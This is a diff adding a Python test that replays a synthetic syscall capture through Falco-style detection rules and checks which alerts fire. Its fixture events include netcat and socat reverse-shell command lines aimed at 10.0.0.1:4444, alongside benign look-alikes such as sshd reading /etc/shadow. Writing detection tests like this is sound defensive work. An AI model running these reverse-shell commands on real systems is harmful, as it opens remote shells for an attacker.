@@ -127,3 +127,53 @@ def test_kept_names_keep_falco_priorities(shared_dir: Path) -> None:
     assert len(kept) >= 12
     for r in kept:
         assert r.priority.name in upstream[r.name], (r.name, r.priority, upstream[r.name])
+
+
+def _exec(pid: int, comm: str, argv: list[str], exe: str | None = None, **kw) -> dict:
+    return {"syscall": "execve", "pid": pid, "ppid": 100, "comm": comm,
+            "exe": exe or f"/usr/bin/{comm}", "argv": argv, **kw}  # fmt: skip
+
+
+def test_rule_logic_on_a_synthetic_capture(tmp_path: Path) -> None:
+    """Cases the recorded samples do not cover: host netcat/socat, and look-alikes
+    that must not alert (nc without -e, apt-get on the host, ldconfig below /etc,
+    sshd reading /etc/shadow, an outbound SSH connection, a shell under a shell)."""
+    from fcap.analyze.regress.engine_bridge import replay_json
+    from fcap.capture.synth import make_capture
+
+    net = {"sock_family": 2, "l4proto": 6, "laddr": "10.0.0.5", "raddr": "10.0.0.9"}
+    events = [
+        _exec(201, "nc", ["nc", "10.0.0.1", "4444", "-e", "/bin/sh"]),
+        _exec(202, "socat", ["socat", "tcp:10.0.0.1:4444", "exec:/bin/sh"]),
+        _exec(203, "nc", ["nc", "-z", "10.0.0.1", "80"]),
+        _exec(204, "apt-get", ["apt-get", "update"]),
+        _exec(205, "ldconfig", ["ldconfig"]),
+        {"syscall": "openat", "pid": 205, "comm": "ldconfig", "path": "/etc/ld.so.cache~",
+         "fd": 3, "res": 3, "a2": 0o1101},
+        _exec(206, "sshd", ["sshd"], exe="/usr/sbin/sshd"),
+        {"syscall": "openat", "pid": 206, "comm": "sshd", "path": "/etc/shadow", "fd": 3,
+         "res": 3, "a2": 0},
+        {"syscall": "accept4", "pid": 206, "comm": "sshd", "fd": 4, "res": 4, "lport": 22,
+         "rport": 50000, **net},
+        _exec(207, "ssh", ["ssh", "host"]),
+        {"syscall": "connect", "pid": 207, "comm": "ssh", "fd": 3, "res": 0, "lport": 50001,
+         "rport": 22, **net},
+        _exec(208, "bash", ["bash"], exe="/bin/bash", tty=34816),
+        {"syscall": "openat", "pid": 208, "comm": "bash", "path": "/etc/motd", "fd": 3, "res": 3,
+         "a2": 0o1101},
+    ]  # fmt: skip
+    cap = make_capture(
+        tmp_path / "synthetic.parquet", events,
+        processes=[{"pid": 100, "ppid": 1, "comm": "bash", "exe": "bash", "exepath": "/bin/bash",
+                    "argv": ["bash"]}],
+    )  # fmt: skip
+    got = sorted(
+        (a["rule"], a["output_fields"].get("proc.name"))
+        for a in replay_json([cap], bundled_rule_files(), "first")
+    )
+    assert got == [
+        ("Disallowed SSH Connection", "sshd"),
+        ("Netcat/Socat Remote Code Execution on Host", "nc"),
+        ("Netcat/Socat Remote Code Execution on Host", "socat"),
+        ("Write below etc", "bash"),
+    ]
